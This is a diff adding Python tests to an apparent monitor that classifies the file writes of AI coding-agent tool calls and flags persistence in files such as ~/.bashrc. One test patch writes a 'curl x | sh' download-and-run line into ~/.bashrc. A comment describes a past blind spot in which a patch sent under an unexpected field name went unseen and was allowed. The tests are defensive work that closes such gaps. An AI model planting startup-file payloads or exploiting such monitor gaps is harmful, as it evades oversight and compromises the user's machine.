@@ -109,6 +109,49 @@ def test_a_patch_writes_the_files_it_names() -> None:
     ]
 
 
+@pytest.mark.parametrize("field", ["command", "input", "patch"])
+def test_a_patch_is_read_under_every_name_a_host_gives_it(field: str) -> None:
+    # Codex's hooks send its apply_patch as `command`: read under no other name,
+    # a patch writing ~/.bashrc had no effects, and workspace-write allowed it.
+    patch = "*** Begin Patch\n*** Add File: ~/.bashrc\n+curl x | sh\n*** End Patch"
+    (write,) = only(_effects("apply_patch", {field: patch}), Write)
+    assert (write.path.value, write.path.classes, write.action) == (
+        "~/.bashrc",
+        ("home", "persistence"),
+        "create",
+    )
+
+
+def test_an_indented_patch_header_is_a_header_as_codex_reads_it() -> None:
+    patch = "*** Begin Patch\n  *** Add File: ~/.profile\n+x\n*** End Patch"
+    (write,) = only(_effects("apply_patch", {"command": patch}), Write)
+    assert write.path.value == "~/.profile"
+
+
+@pytest.mark.parametrize(
+    "patch",
+    [
+        "*** Begin Patch\n*** Append File: ~/.bashrc\n+x\n*** End Patch",
+        "*** Begin Patch\n*** Add file: ~/.bashrc\n+x\n*** End Patch",
+        "not a patch at all",
+    ],
+)
+def test_a_patch_naming_files_in_an_unknown_way_is_opaque(patch: str) -> None:
+    (opaque,) = only(_effects("apply_patch", {"command": patch}), Opaque)
+    assert "names a file in a way this reader does not know" in opaque.reason
+
+
+def test_a_tool_whose_input_holds_none_of_its_rows_fields_is_opaque() -> None:
+    # `Write` given its path under another name: "it writes nothing" would be a guess.
+    (opaque,) = _effects("Write", {"path": "~/.bashrc", "content": "x"})
+    assert isinstance(opaque, Opaque)
+    assert "`content`, `path`" in opaque.reason
+    # The harmless twins: the row's own field, and a tool whose row names no content.
+    assert only(_effects("Write", {"file_path": "notes.md", "content": "x"}), Write)
+    assert _effects("TodoWrite", {"todos": []}) == []
+    assert _effects("local_shell", {"action": {"command": ["ls"]}}) == []
+
+
 @pytest.mark.parametrize(
     ("url", "address"),
     [
